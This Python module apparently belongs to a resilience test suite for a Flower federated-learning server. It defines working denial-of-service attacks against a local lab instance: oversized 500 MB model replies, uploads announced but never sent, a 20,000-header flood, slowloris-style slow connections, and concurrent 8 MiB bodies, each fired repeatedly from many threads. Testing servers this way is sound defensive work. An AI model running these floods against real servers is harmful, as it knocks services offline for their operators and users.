"""Attacks on the devices' line and on the server behind it, with a registered key or without."""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress

import numpy as np
from flwr.app import Array, ArrayRecord, Context, Message, RecordDict
from flwr.supercore.inflatable.inflatable_object import get_object_tree

from flower_ist.grids.chain import is_train
from hostile.federation import Federation
from hostile.node import HostileNode, PushObject, Send, honest, upload


@contextmanager
def huge_reply(federation: Federation) -> Iterator[HostileNode]:
    """A registered node answers a train message with 500 MB: 100 arrays of 5 MB."""

    def answer(message: Message, context: Context) -> Message:
        if not is_train(message):
            return honest(message, context)
        arrays = {str(n): Array(np.full(1_250_000, n, np.float32)) for n in range(100)}
        return Message(RecordDict({"arrays": ArrayRecord(arrays)}), reply_to=message)

    with HostileNode(federation, federation.honest, answer) as node:
        yield node


@contextmanager
def half_announced_reply(federation: Federation) -> Iterator[HostileNode]:
    """A registered node announces its reply to a train message and never uploads it."""

    def announce(reply: Message, send: Send, push_object: PushObject) -> None:
        if is_train(reply):
            send(reply, get_object_tree(reply), 1.0)
        else:
            upload(reply, send, push_object)

    with HostileNode(federation, federation.honest, upload=announce) as node:
        yield node


@contextmanager
def header_flood(federation: Federation) -> Iterator[None]:
    """Without a key: requests with 20,000 small headers, over and over."""
    flood = b"POST /v1/fleet/pull-messages HTTP/1.1\r\nhost: x\r\n"
    flood += b"".join(b"cookie: a%d=%d\r\n" % (n, n) for n in range(20_000)) + b"\r\n"

    def attack(line: ssl.SSLSocket) -> None:
        line.sendall(flood)
        line.recv(4096)

    with _attackers(federation, 4, attack):
        yield None


@contextmanager
def slow_connections(federation: Federation) -> Iterator[None]:
    """Without a key: 520 connections that stay open, a byte of a header every few seconds."""

    def attack(line: ssl.SSLSocket) -> None:
        line.sendall(b"POST /v1/fleet/pull-messages HTTP/1.1\r\n")
        while True:
            time.sleep(5.0)
            line.sendall(b"a")

    with _attackers(federation, 520, attack):
        yield None


@contextmanager
def large_bodies(federation: Federation) -> Iterator[None]:
    """Without a key: 60 bodies of 8 MiB at once."""
    head = b"POST /v1/fleet/push-object HTTP/1.1\r\nhost: x\r\ncontent-length: 8388608\r\n\r\n"

    def attack(line: ssl.SSLSocket) -> None:
        line.sendall(head)
        for _ in range(128):
            line.sendall(bytes(65536))
        line.recv(4096)

    with _attackers(federation, 60, attack):
        yield None


@contextmanager
def _attackers(federation: Federation, count: int, attack: object) -> Iterator[None]:
    """Attack from so many threads at once, each again and again, until the block ends."""
    context = ssl.create_default_context(cafile=str(federation.lab / "ca/ca.crt"))
    over = threading.Event()

    def live() -> None:
        while not over.is_set():
            with (
                suppress(OSError),
                socket.create_connection(("127.0.0.1", federation.port), timeout=20) as raw,
                context.wrap_socket(raw, server_hostname="127.0.0.1") as line,
            ):
                attack(line)  # type: ignore[operator]
            over.wait(0.5)

    threading.stack_size(256 * 1024)
    for _ in range(count):
        threading.Thread(target=live, daemon=True).start()
    threading.stack_size(0)
    try:
        yield
    finally:
        over.set()
